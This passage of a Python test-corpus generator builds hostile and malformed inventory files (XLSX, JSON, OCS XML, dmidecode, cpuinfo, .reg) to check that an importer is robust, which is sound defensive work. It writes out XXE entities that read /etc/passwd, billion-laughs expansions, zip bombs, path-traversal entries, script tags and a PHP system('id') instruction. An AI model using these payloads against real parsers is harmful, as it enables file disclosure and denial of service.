                                      + "".join(f"<si>{''.join(f'<r><t>{c}</t></r>' for c in xml_escape(v))}</si>" for v in sum(rows, [])) + "</sst>"),
        "clean", "every string split into one rich-text run per character", "assets>=1")
    put(f, "bad-cell-refs.xlsx", xlsx(None, sheet_xml=sheet_head + '<row r="1"><c r="A1" t="inlineStr"><is><t>hostname</t></is></c>'
                                          '<c r="ZZZZZZZZ1" t="inlineStr"><is><t>x</t></is></c></row><row r="0"><c r="A-1" t="inlineStr"><is><t>y</t></is></c></row>'
                                          '<row r="99999999999"><c r="1A" t="inlineStr"><is><t>z</t></is></c><c r="" t="inlineStr"><is><t>w</t></is></c></row>' + sheet_tail),
        "either", "cell references beyond XFD, negative, malformed, empty")
    put(f, "far-column.xlsx", xlsx(None, sheet_xml=sheet_head + '<row r="1"><c r="A1" t="inlineStr"><is><t>hostname</t></is></c></row>'
                                         '<row r="2"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>' + sheet_tail),
        "either", "a single cell at the last column and row (no dense row arrays)", "heap=128")
    put(f, "duplicate-rows.xlsx", xlsx(None, sheet_xml=sheet_head + ('<row r="1"><c r="A1" t="inlineStr"><is><t>hostname</t></is></c></row>' * 3)
                                         + '<row r="2"><c r="A2" t="inlineStr"><is><t>PC-1</t></is></c><c r="A2" t="inlineStr"><is><t>PC-2</t></is></c></row>' + sheet_tail),
        "either", "the same row and cell several times")
    put(f, "xxe-sheet.xlsx", xlsx(None, sheet_xml=xxe_file('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is>',
                                                           '</is></c></row></sheetData></worksheet>', "t")),
        "either", "external entity to a local file in the sheet", "xxe")
    put(f, "xxe-sst.xlsx", xlsx(rows, sst_xml=xxe_file('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si>', '</si></sst>', "t")),
        "either", "external entity to a local file in the shared strings", "xxe")
    put(f, "xxe-workbook.xlsx", xlsx(rows, workbook_xml='<?xml version="1.0"?><!DOCTYPE w [<!ENTITY % p SYSTEM "@SECRET_URI@"> %p;]>'
                                     '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                                     '<sheets><sheet name="Assets" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "either", "parameter entity to a local file in the workbook", "xxe")
    put(f, "xxe-passwd.xlsx", xlsx(rows, sst_xml='<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                   '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>hostname&x;</t></si></sst>'),
        "either", "external entity to /etc/passwd", "passwd")
    put(f, "billion-laughs-sst.xlsx", xlsx(rows, sst_xml='<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD
                                           + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'),
        "either", "entity expansion (billion laughs) in the shared strings", "heap=128")
    put(f, "billion-laughs-sheet.xlsx", xlsx(None, sheet_xml='<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD
                                             + sheet_head.split("?>", 1)[1] + '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>' + sheet_tail),
        "either", "entity expansion in the sheet", "heap=128")
    put(f, "zip-bomb-sheet.xlsx", xlsx(None, sheet_xml=sheet_head + '<row r="1"><c r="A1" t="inlineStr"><is><t>hostname</t></is></c></row>' + " " * 300_000_000 + sheet_tail),
        "either", "a sheet that inflates to 300 MB of blanks (ratio ~1000)", "heap=256;timeout=120")
    put(f, "zip-bomb-sst.xlsx", xlsx(rows, sst_xml='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + "A" * 200_000_000 + "</t></si></sst>"),
        "either", "one shared string inflating to 200 MB", "heap=256;timeout=120")
    put(f, "traversal-sheet-target.xlsx", xlsx(rows, rels_xml='<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="../../../../../../etc/passwd"/>'
                                               '</Relationships>'), "either", "sheet relationship pointing outside the package", "passwd")
    put(f, "absolute-sheet-target.xlsx", xlsx(rows, rels_xml='<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="file:///etc/passwd" TargetMode="External"/>'
                                              '</Relationships>'), "either", "external sheet relationship to a local file", "passwd")
    put(f, "traversal-entry-names.xlsx", xlsx(rows, extra={"../../evil.txt": "owned", "/abs/evil.txt": "owned", "..\\..\\win.txt": "owned"}),
        "either", "extra entries with traversal names (never written anywhere)")
    put(f, "nested-zip.xlsx", xlsx(rows, extra={"xl/embeddings/inner.zip": zip_of([("a.xlsx", valid), ("b.zip", zip_of([("c.xlsx", valid)]))])}),
        "either", "workbook carrying nested zips")
    put(f, "many-sheets-missing.xlsx", xlsx(rows, workbook_xml='<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                                            + "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, 2000)) + "</sheets></workbook>"),
        "either", "1 999 sheets declared, one present")
    put(f, "deep-xml.xlsx", xlsx(None, sheet_xml=sheet_head + "<x>" * 50000 + "</x>" * 50000 + sheet_tail), "error", "50 000 nested elements in the sheet",
        "field=Assets;says=searched: sheet 'Assets' (no rows)")
    put(f, "html-sheet-name.xlsx", xlsx(rows, workbook_xml='<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
                                        '<sheet name="&lt;script&gt;alert(1)&lt;/script&gt;" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "clean", "HTML in the sheet name", "assets>=1")
    put(f, "wrong-content.xlsx", xlsx(None, sheet_xml=rnd("xlsx3", 3000)), "error", "sheet part of random bytes", "whole-file")
    put(f, "utf16-sheet.xlsx", xlsx(rows, sst_xml=("<?xml version=\"1.0\" encoding=\"UTF-16\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                                   + "".join(f"<si><t>{xml_escape(v)}</t></si>" for v in sum(rows, [])) + "</sst>").encode("utf-16")),
        "clean", "shared strings in UTF-16", "assets>=1")
    put(f, "stored-no-compression.xlsx", zip_of([(n, d) for n, d in zipfile_items(valid)], method=zipfile.ZIP_STORED), "clean",
        "entries stored without compression", "assets>=1")
    put(f, "duplicate-entries.xlsx", dup_entries(valid, "xl/worksheets/sheet1.xml", xlsx([["serial"], ["EVIL"]])), "either",
        "the sheet entry twice with different content")


def zipfile_items(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(n, z.read(n)) for n in z.namelist()]


def dup_entries(data, name, other):
    items = zipfile_items(data)
    extra = dict(zipfile_items(other))[name]
    buf = io.BytesIO()
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n, d in items + [(name, extra)]:
                z.writestr(zipfile.ZipInfo(n, date_time=(2024, 1, 1, 0, 0, 0)), d, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


# ---------------------------------------------------------------- JSON families

def deep(n, open_, close_, inner="1"):
    return open_ * n + inner + close_ * n


def json_family(f, valid_obj, html_obj, inj_obj, key_paths):
    valid = js(valid_obj).encode()
    generic(f, ".json", valid, js(html_obj).encode(), js(inj_obj).encode(), False)
    put(f, "deep-array-5000.json", deep(5000, "[", "]"), "error", "5 000 nested arrays")
    put(f, "deep-object-5000.json", deep(5000, '{"a":', "}"), "error", "5 000 nested objects")
    put(f, "deep-array-200000.json", deep(200000, "[", "]"), "error", "200 000 nested arrays (stack overflow bait)")
    put(f, "deep-in-valid.json", js(valid_obj)[:-2] + ',"x":' + deep(3000, "[", "]") + "}\n", "error", "deep nesting after valid content")
    put(f, "top-scalar.json", b"42", "either", "a number as the whole document")
    put(f, "top-string.json", b'"<script>alert(1)</script>"', "either", "a string as the whole document")
    put(f, "top-null.json", b"null", "either", "null as the whole document")
    put(f, "top-array-scalars.json", b"[1,2,3,\"x\",null,true]", "either", "an array of scalars")
    put(f, "empty-object.json", b"{}", "either", "an empty object")
    put(f, "empty-array.json", b"[]", "either", "an empty array")
    put(f, "huge-number.json", ('{"n":' + "9" * 200000 + "}").encode(), "error", "a 200 000-digit number")
    put(f, "huge-exponent.json", js(valid_obj)[:-2].encode() + b',"n":1e999999999}', "either", "a number with an absurd exponent")
    put(f, "nan-literals.json", js(valid_obj)[:-2].encode() + b',"a":NaN,"b":Infinity,"c":-Infinity}', "either", "non-standard NaN/Infinity")
    put(f, "comments.json", b"/* c */\n" + valid + b"// tail\n", "either", "JavaScript comments")
    put(f, "trailing-commas.json", js(valid_obj).replace("\n  }", ",\n  }").encode(), "either", "trailing commas")
    put(f, "single-quotes.json", js(valid_obj).replace('"', "'").encode(), "either", "single-quoted strings")
    put(f, "duplicate-keys.json", (js(valid_obj)[:-2] + "," + js(valid_obj)[1:]).encode(), "either", "every key twice")
    put(f, "lone-surrogate.json", js(valid_obj).replace('"', '"\\ud800', 2).encode(), "either", "escaped lone surrogate in a string")
    put(f, "nul-escape.json", js(valid_obj).replace('"', '"\\u0000', 2).encode(), "either", "escaped NUL in a string")
    put(f, "unterminated-string.json", js(valid_obj)[:40].encode() + b'"abc', "error", "string never closed")
    put(f, "concatenated.json", valid + valid + valid, "either", "three documents back to back")
    put(f, "many-siblings.json", ('{"x":[' + ",".join('{"a":1}' for _ in range(20000)) + "]}").encode(), "either", "20 000 sibling objects")
    put(f, "long-string.json", ('{"s":"' + "A" * 300000 + '"}').encode(), "either", "a 300 KB string", "heap=256")
    for kp in key_paths:
        put(f, f"wrong-type-{kp.replace('/', '-')}-string.json", js(replace_path(valid_obj, kp, "oops")).encode(), "either", f"{kp} is a string")
        put(f, f"wrong-type-{kp.replace('/', '-')}-number.json", js(replace_path(valid_obj, kp, 12345)).encode(), "either", f"{kp} is a number")
        put(f, f"wrong-type-{kp.replace('/', '-')}-null.json", js(replace_path(valid_obj, kp, None)).encode(), "either", f"{kp} is null")
        put(f, f"wrong-type-{kp.replace('/', '-')}-deep.json", js(replace_path(valid_obj, kp, nested_obj(60))).encode(), "either",
            f"{kp} is a 60-level object")


def nested_obj(n):
    o = "end"
    for _ in range(n):
        o = {"k": o}
    return o


def replace_path(obj, path, value):
    o = json.loads(json.dumps(obj))
    parts = path.split("/")
    cur = o
    for p in parts[:-1]:
        cur = cur[int(p)] if isinstance(cur, list) else cur[p]
    if isinstance(cur, list):
        cur[int(parts[-1])] = value
    else:
        cur[parts[-1]] = value
    return o


def everywhere(obj, payloads):
    """Replaces every string value with a payload (keeps keys and structure)."""
    i = [0]

    def walk(o):
        if isinstance(o, dict):
            return {k: walk(v) if k not in ("bomFormat", "specVersion", "class", "type", "itemtype", "action") else v for k, v in o.items()}
        if isinstance(o, list):
            return [walk(v) for v in o]
        if isinstance(o, str):
            i[0] += 1
            return payloads[i[0] % len(payloads)] + " " + o
        return o
    return walk(obj)


def build_glpi():
    v = glpi_doc()
    json_family("glpi", v, everywhere(v, HTML), everywhere(v, INJECTION),
                ["content", "content/bios", "content/hardware", "content/cpus", "content/softwares", "content/operatingsystem"])
    put("glpi", "partial-only.json", js({"action": "inventory", "deviceid": "x", "partial": True, "content": {"softwares": [{"name": "<b>x</b>"}]}}).encode(),
        "either", "a partial inventory without hardware")
    put("glpi", "many-softwares.json", js(replace_path(v, "content/softwares", [{"name": f"App {i}", "publisher": HTML[i % 8], "version": INJECTION[i % 8]} for i in range(6000)]), indent=None).encode(),
        "clean", "6 000 software entries with hostile publishers/versions", "assets>=1")


def build_lshw():
    v = lshw_doc()
    json_family("lshw", v, everywhere(v, HTML), everywhere(v, INJECTION), ["children", "configuration", "children/0/children", "width"])
    put("lshw", "array-form-hostile.json", js([everywhere(v, HTML), everywhere(v, INJECTION)]).encode(), "clean", "the array form, hostile text", "assets>=1")
    deep_children = ('{"id":"h","class":"system","children":[' + "".join(f'{{"id":"n{i}","class":"bus","children":[' for i in range(3000))
                     + '{"id":"leaf","class":"bus"}' + "]}" * 3000 + "]}")
    put("lshw", "deep-children.json", deep_children, "error", "3 000 nested children")
    put("lshw", "identity-5k.json", js(lshw_doc({"id": "n" * 5000, "serial": "7" * 4097})).encode(), "clean",
        "a 5 000-character host name and a 4 097-character serial: dropped as identities with a warning",
        "assets>=1;warns=is not used as an identity")
    put("lshw", "arm-no-vendor.json", js(replace_path(v, "vendor", None)).encode(), "clean", "no vendors (ARM style)", "assets>=1")


def build_cdx():
    v = cdx_doc()
    json_family("cyclonedx", v, everywhere(v, HTML), everywhere(v, INJECTION),
                ["metadata", "metadata/component", "components", "components/0", "metadata/component/manufacturer"])
    head = js(v, indent=None)
    cut = head.index('"components":') + len('"components":')
    deep_comp = ("[" + "".join(f'{{"type":"library","name":"c{i}","components":[' for i in range(3000))
                 + '{"type":"library","name":"leaf"}' + "]}" * 3000 + "]")
    end = head.index("]", cut) + 1
    put("cyclonedx", "deep-components.json", head[:cut] + deep_comp + head[end:], "error", "3 000 nested components")
    put("cyclonedx", "wrong-format.json", js(replace_path(v, "bomFormat", "SPDX")).encode(), "either", "bomFormat says SPDX")
    put("cyclonedx", "future-spec.json", js(replace_path(v, "specVersion", "99.0")).encode(), "either", "an unknown specVersion")
    put("cyclonedx", "many-components.json", js(replace_path(v, "components", [{"type": "application", "name": f"App {i}", "version": INJECTION[i % 8],
                                                                                  "publisher": HTML[i % 8]} for i in range(6000)]), indent=None).encode(),
        "clean", "6 000 hostile application components", "assets>=1")


# ---------------------------------------------------------------- OCS XML

def build_ocs():
    f = "ocs"
    valid = ocs_doc().encode()
    html = {k: HTML[i % 8] for i, k in enumerate(["smanufacturer", "smodel", "ssn", "bmanufacturer", "name", "osname", "cpuname", "cpumanufacturer",
                                                 "softname", "publisher", "softversion"])}
    inj = {k: xml_safe(INJECTION[i % 8]) for i, k in enumerate(html)}
    generic(f, ".xml", valid, ocs_doc(html).encode(), ocs_doc(inj).encode(), False)
    put(f, "identity-5k.xml", ocs_doc({"name": "n" * 5000, "ssn": "9" * 4500}).encode(), "clean",
        "a 5 000-character host name and a 4 500-character serial: dropped as identities with a warning",
        "assets>=1;warns=is not used as an identity")
    put(f, "text-300k.xml", ocs_doc({"smodel": "m" * 300_000}).encode(), "error", "a 300 000-character element text (limit 256 Ki)",
        "field=SMODEL;says=the text of element <SMODEL> is longer than")
    put(f, "attribute-100k.xml", ocs_doc(prolog='<?xml version="1.0"?>\n').replace("<HARDWARE>", '<HARDWARE note="' + "a" * 100_000 + '">').encode(),
        "error", "a 100 000-character attribute value (limit 64 Ki)", "field=HARDWARE@note;says=attribute 'note' of element <HARDWARE> holds")
    put(f, "xxe-file.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [ <!ENTITY xxe SYSTEM "@SECRET_URI@"> ]>\n'
                            + ocs_doc({"name": "XXEHOST"}, prolog="").replace("XXEHOST", "&xxe;")).encode(), "error", "external entity to a local file", "xxe")
    put(f, "xxe-parameter.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [ <!ENTITY % p SYSTEM "@SECRET_URI@"> %p; ]>\n'
                                 + ocs_doc(prolog="")).encode(), "error", "parameter entity to a local file", "xxe")
    put(f, "xxe-external-dtd.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST SYSTEM "@SECRET_URI@">\n' + ocs_doc(prolog="")).encode(),
        "error", "external DTD that is a local file", "xxe")
    put(f, "xxe-passwd.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n'
                              + ocs_doc({"name": "PWHOST"}, prolog="").replace("PWHOST", "&x;")).encode(), "error", "external entity to /etc/passwd", "passwd")
    put(f, "xxe-http.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [ <!ENTITY x SYSTEM "http://127.0.0.1:9/x"> ]>\n'
                            + ocs_doc({"name": "H"}, prolog="").replace(">H<", ">&x;<")).encode(), "error", "external entity over the network (must not connect)")
    put(f, "xinclude.xml", ocs_doc(extra='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@SECRET_URI@" parse="text"/>\n').encode(),
        "either", "XInclude of a local file (must not be processed)", "xxe")
    put(f, "billion-laughs.xml", ('<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD.replace("lolz", "REQUEST")
                                  + ocs_doc({"name": "LOL"}, prolog="").replace(">LOL<", ">&lol9;<")).encode(), "error", "exponential entity expansion", "heap=128")
    put(f, "quadratic-blowup.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [<!ENTITY a "' + "a" * 50000 + '">]>\n'
                                    + ocs_doc({"name": "Q"}, prolog="").replace(">Q<", ">" + "&a;" * 20000 + "<")).encode(), "error", "one big entity referenced 20 000 times", "heap=128")
    put(f, "internal-entity.xml", ('<?xml version="1.0"?>\n<!DOCTYPE REQUEST [<!ENTITY v "Lenovo">]>\n'
                                   + ocs_doc({"smanufacturer": "V"}, prolog="").replace(">V<", ">&v;<")).encode(), "either", "a harmless internal entity (DTDs are refused)")
    put(f, "deep-elements.xml", ocs_doc(extra="<A>" * 20000 + "</A>" * 20000).encode(), "error", "20 000 nested elements")
    put(f, "many-attributes.xml", ocs_doc(extra="<X " + " ".join(f'a{i}="{i}"' for i in range(20000)) + "/>").encode(), "either", "20 000 attributes on one element")
    put(f, "unclosed.xml", ocs_doc().replace("</REQUEST>", "").encode(), "error", "root never closed")
    put(f, "mismatched.xml", ocs_doc().replace("</BIOS>", "</BIOSX>").encode(), "error", "mismatched end tag")
    put(f, "two-roots.xml", valid + valid.split(b"?>", 1)[1], "error", "two root elements")
    put(f, "char-ref-nul.xml", ocs_doc({"name": "N"}).replace(">N<", ">&#0;&#xFFFE;<").encode(), "error", "character references to forbidden characters")
    put(f, "declared-utf16-is-utf8.xml", ocs_doc(prolog='<?xml version="1.0" encoding="UTF-16"?>\n').encode(), "either", "declares UTF-16, is UTF-8")
    put(f, "declared-gbk.xml", ocs_doc({"smanufacturer": "联想", "osname": "银河麒麟"}, prolog='<?xml version="1.0" encoding="GBK"?>\n').encode("gbk"),
        "clean", "GBK declared and used", "assets>=1")
    put(f, "declared-bogus-encoding.xml", ocs_doc(prolog='<?xml version="1.0" encoding="X-EVIL-9"?>\n').encode(), "either", "an unknown declared encoding")
    put(f, "cdata-tricks.xml", ocs_doc({"name": "C"}).replace(">C<", "><![CDATA[<script>alert(1)</script>]]]]><![CDATA[>]]><").encode(), "clean",
        "CDATA with script and split terminators", "assets>=1")
    put(f, "processing-instructions.xml", ocs_doc(prolog='<?xml version="1.0"?>\n<?xml-stylesheet href="@SECRET_URI@"?>\n<?php system("id"); ?>\n').encode(),
        "either", "stylesheet and foreign processing instructions", "xxe")
    put(f, "namespaces-junk.xml", ocs_doc().replace("<REQUEST>", '<REQUEST xmlns="urn:x" xmlns:a="urn:y" a:b="c">').encode(), "either", "namespaced root")
    put(f, "lowercase-tags.xml", ocs_doc().lower().encode(), "either", "lower-case element names")
    put(f, "many-softwares.xml", ocs_doc(extra="".join(f"    <SOFTWARES><NAME>{xml_escape(HTML[i % 8])}</NAME><PUBLISHER>{xml_escape(xml_safe(INJECTION[i % 8]))}</PUBLISHER>"
                                                       f"<VERSION>{i}</VERSION></SOFTWARES>\n" for i in range(5000))).encode(), "clean", "5 000 hostile software entries", "assets>=1")
    put(f, "json-renamed.xml", js(glpi_doc()).encode(), "error", "GLPI JSON named .xml")


# ---------------------------------------------------------------- dmidecode

def build_dmi():
    f = "dmidecode"
    valid = dmi_text().encode()
    keys = ["bvendor", "bversion", "manufacturer", "product", "version", "serial", "cpuvendor", "cpu", "board"]
    generic(f, ".txt", valid, dmi_text({k: HTML[i % 8] for i, k in enumerate(keys)}).encode(),
            dmi_text({k: INJECTION[i % 8].replace("\r", "") for i, k in enumerate(keys)}).encode(), True)
    put(f, "handle-no-type.txt", b"Handle 0x0001\nSystem Information\n\tManufacturer: X\n", "either", "a handle line without a DMI type")
    put(f, "huge-type.txt", b"Handle 0xFFFFFFFFFFFFFFFF, DMI type 99999999999999999999, -5 bytes\nSystem Information\n\tManufacturer: X\n", "either",
        "handle and type numbers out of range")
    put(f, "header-only.txt", b"# dmidecode 3.3\nSMBIOS 3.1.1 present.\n", "either", "only the header")
    put(f, "no-indent.txt", dmi_text().replace("\t", "").encode(), "either", "values without their tab indent")
    put(f, "colons.txt", dmi_text({"manufacturer": "a:b:c::::", "product": ":::"}).encode(), "clean", "values full of colons", "assets>=1")
    put(f, "many-handles.txt", ("".join(f"Handle 0x{i:04X}, DMI type 17, 40 bytes\nMemory Device\n\tSize: 8192 MB\n\tManufacturer: {HTML[i % 8]}\n\n"
                                        for i in range(8000))).encode(), "either", "8 000 memory devices")
    put(f, "repeated-system.txt", (dmi_text() * 150).encode(), "either", "the whole output 150 times")
    put(f, "windows-crlf.txt", dmi_text().replace("\n", "\r\n").encode(), "clean", "CRLF line ends", "assets>=1")
    put(f, "deep-indent.txt", dmi_text().replace("\t", "\t" * 5000).encode(), "either", "5 000 tabs of indent")
    put(f, "placeholders.txt", dmi_text({"manufacturer": "To be filled by O.E.M.", "serial": "0123456789", "product": "Default string"}).encode(),
        "clean", "placeholder identities only", "assets>=1")


# ---------------------------------------------------------------- /proc/cpuinfo

def cpuinfo_text(t=None, n=2):
    t = t or {}
    g = lambda k, d: t.get(k, d)
    out = []
    for i in range(n):
        out.append(f"processor\t: {i}\nvendor_id\t: {g('vendor', 'HygonGenuine')}\ncpu family\t: 24\nmodel\t\t: 1\n"
                   f"model name\t: {g('model', 'Hygon C86 3250  8-core Processor')}\nstepping\t: 1\ncpu MHz\t\t: 2800.000\n"
                   f"cpu cores\t: {g('cores', '8')}\nflags\t\t: fpu vme de pse tsc msr pae mce\n\n")
    return "".join(out)


def cpuinfo_arm(t=None):
    t = t or {}
    return "".join(f"processor\t: {i}\nBogoMIPS\t: 100.00\nFeatures\t: fp asimd evtstrm aes\nCPU implementer\t: {t.get('impl', '0x48')}\n"
                   f"CPU architecture: 8\nCPU variant\t: 0x1\nCPU part\t: {t.get('part', '0xd01')}\nCPU revision\t: 0\n\n" for i in range(4))


def build_cpuinfo():
    f = "cpuinfo"
    valid = cpuinfo_text().encode()
    generic(f, ".cpuinfo", valid, cpuinfo_text({"vendor": HTML[0], "model": HTML[1], "cores": HTML[2]}).encode(),
            cpuinfo_text({"vendor": INJECTION[0], "model": INJECTION[1], "cores": INJECTION[4]}).encode(), True)
    put(f, "arm.cpuinfo", cpuinfo_arm().encode(), "clean", "ARM implementer/part form", "assets>=1")
    put(f, "arm-bad-ids.cpuinfo", cpuinfo_arm({"impl": "0xZZZZZZZZZZZZZZZZZZZZ", "part": "-1"}).encode(), "either", "implementer and part that are not hex")
    put(f, "zhaoxin-spaces.cpuinfo", cpuinfo_text({"vendor": "  Shanghai  ", "model": "ZHAOXIN KaiXian KX-U6780A@2.7GHz"}).encode(), "clean",
        "vendor id padded with spaces", "assets>=1")
    put(f, "cores-overflow.cpuinfo", cpuinfo_text({"cores": "99999999999999999999999"}).encode(), "either", "core count past long")
    put(f, "cores-negative.cpuinfo", cpuinfo_text({"cores": "-8"}).encode(), "either", "negative core count")
    put(f, "many-processors.cpuinfo", cpuinfo_text(n=4000).encode(), "clean", "4 000 processors", "assets>=1")
    put(f, "no-colon.cpuinfo", b"processor 0\nvendor_id GenuineIntel\n\n" * 100, "either", "lines without separators")
    put(f, "only-colons.cpuinfo", b":::::\n\t:\t:\n" * 500, "either", "lines of separators")
    put(f, "mixed-arch.cpuinfo", (cpuinfo_text() + cpuinfo_arm()).encode(), "either", "x86 and ARM blocks in one file")


# ---------------------------------------------------------------- .reg

def build_reg():
    f = "winreg"
    valid = utf16(reg_text(REG_ENTRIES))
    html = [(HTML[i], HTML[i + 1], HTML[i + 2]) for i in range(0, 6, 2)]
    inj = [(INJECTION[i], INJECTION[i + 1], INJECTION[i + 2].replace("\r", "")) for i in range(0, 6, 2)]
    put(f, "valid.reg", valid, "clean", "control case: UTF-16LE export", "assets>=1")
    put(f, "valid-utf8.reg", reg_text(REG_ENTRIES).encode(), "clean", "UTF-8 export (REGEDIT5 text saved as UTF-8)", "assets>=1")
    put(f, "html-everywhere.reg", utf16(reg_text(html)), "clean", "HTML/JS in names, publishers, versions", "assets>=1;html")
    put(f, "injection-everywhere.reg", utf16(reg_text(inj)), "clean", "formula payloads in names, publishers, versions", "assets>=1")
    put(f, "empty.reg", b"", "either", "zero bytes")
    put(f, "bom-only.reg", b"\xff\xfe", "either", "only the byte order mark")
    put(f, "odd-length.reg", valid[:-1], "either", "UTF-16 with an odd byte count")
    put(f, "odd-length-mid.reg", valid[:101] + valid[102:], "either", "one byte dropped mid-file (misaligned UTF-16)")
    put(f, "lone-surrogates.reg", valid[:200] + b"\x00\xd8\x41\x00\x00\xdc\x00\xdc" + valid[200:], "either", "unpaired UTF-16 surrogates")
    put(f, "bom-then-utf8.reg", b"\xff\xfe" + reg_text(REG_ENTRIES).encode(), "either", "UTF-16LE BOM followed by UTF-8 bytes")
    put(f, "utf16be.reg", b"\xfe\xff" + reg_text(REG_ENTRIES).encode("utf-16-be"), "either", "UTF-16BE with BOM")
    put(f, "utf16-nobom.reg", reg_text(REG_ENTRIES).encode("utf-16-le"), "either", "UTF-16LE without BOM")
    put(f, "garbage-random.reg", rnd("reg1", 65536), "either", "random bytes")
    put(f, "garbage-utf16.reg", b"\xff\xfe" + rnd("reg2", 65536), "either", "BOM then random code units")
    for frac in (0.3, 0.77):
        put(f, f"truncated-{int(frac * 100)}.reg", valid[: int(len(valid) * frac)], "either", f"export cut at {int(frac * 100)} %")
    put(f, "no-header.reg", utf16(reg_text(REG_ENTRIES).split("\r\n", 1)[1]), "either", "no 'Windows Registry Editor' header")
    put(f, "regedit4.reg", reg_text(REG_ENTRIES).replace("Windows Registry Editor Version 5.00", "REGEDIT4").encode("cp1252"), "either", "REGEDIT4 header, ANSI")
    hexv = lambda s: ",".join(f"{b:02x}" for b in s.encode("utf-16-le") + b"\0\0")
    base = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\X]\r\n"
    put(f, "hex2-valid.reg", utf16(base + f'"DisplayName"=hex(2):{hexv("Expanded %ProgramFiles%")}\r\n"Publisher"="P"\r\n'), "clean", "hex(2) value", "assets>=1")
    put(f, "hex2-odd.reg", utf16(base + '"DisplayName"=hex(2):41,00,42\r\n"Publisher"="P"\r\n'), "either", "hex(2) with an odd byte count")
    put(f, "hex2-nonhex.reg", utf16(base + '"DisplayName"=hex(2):zz,qq,\\\r\n  ,,,,gg\r\n"Publisher"="P"\r\n'), "either", "hex(2) with non-hex digits")
    put(f, "hex2-huge.reg", utf16(base + '"DisplayName"=hex(2):' + ",\\\r\n  ".join("41,00" for _ in range(25000)) + "\r\n"), "either",
        "a hex(2) value continued over 25 000 lines")
    put(f, "continuation-at-eof.reg", utf16(base + '"DisplayName"=hex(2):41,00,\\'), "either", "a line continuation at the end of file")
    put(f, "unterminated-string.reg", utf16(base + '"DisplayName"="never closed\r\n"Publisher"="P\r\n'), "either", "string values never closed")
    put(f, "escapes.reg", utf16(base + '"DisplayName"="a\\\\b\\"c\\\\\\"\\\\"\r\n"Publisher"="\\\\\\\\server\\\\share"\r\n'), "either", "backslash escapes")
    put(f, "value-without-key.reg", utf16('Windows Registry Editor Version 5.00\r\n\r\n"DisplayName"="Orphan"\r\n'), "either", "values before any key")
    put(f, "key-unclosed.reg", utf16("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\X\r\n"
                                     '"DisplayName"="Y"\r\n'), "either", "key line without closing bracket")
    put(f, "key-deletion.reg", utf16("Windows Registry Editor Version 5.00\r\n\r\n[-HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\X]\r\n"
                                     '"DisplayName"=-\r\n'), "either", "deletion syntax")
    put(f, "long-key.reg", utf16("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\"
                                 + "\\".join("k" for _ in range(30000)) + ']\r\n"DisplayName"="deep"\r\n'), "either", "a key 30 000 levels deep")
    put(f, "many-keys.reg", utf16(reg_text([(f"App {i} {HTML[i % 8]}", INJECTION[i % 8].replace("\r", ""), str(i)) for i in range(1000)])), "clean",
        "1 000 hostile uninstall entries", "assets>=1")
    put(f, "dword-garbage.reg", utf16(base + '"DisplayName"="D"\r\n"EstimatedSize"=dword:zzzzzzzzzzzzzzzzzzzz\r\n"VersionMajor"=dword:\r\n"X"=hex(b):\r\n'),
        "either", "malformed dword/qword values")
    put(f, "nul-in-names.reg", utf16(base + '"Display\0Name"="A\0B"\r\n"Publisher"="P"\r\n'), "either", "NUL characters inside names and values")
    put(f, "mixed-line-ends.reg", utf16(reg_text(REG_ENTRIES).replace("\r\n", "\n", 5).replace("\r\n", "\r", 3)), "either", "LF, CR and CRLF mixed")


# ---------------------------------------------------------------- dpkg / rpm

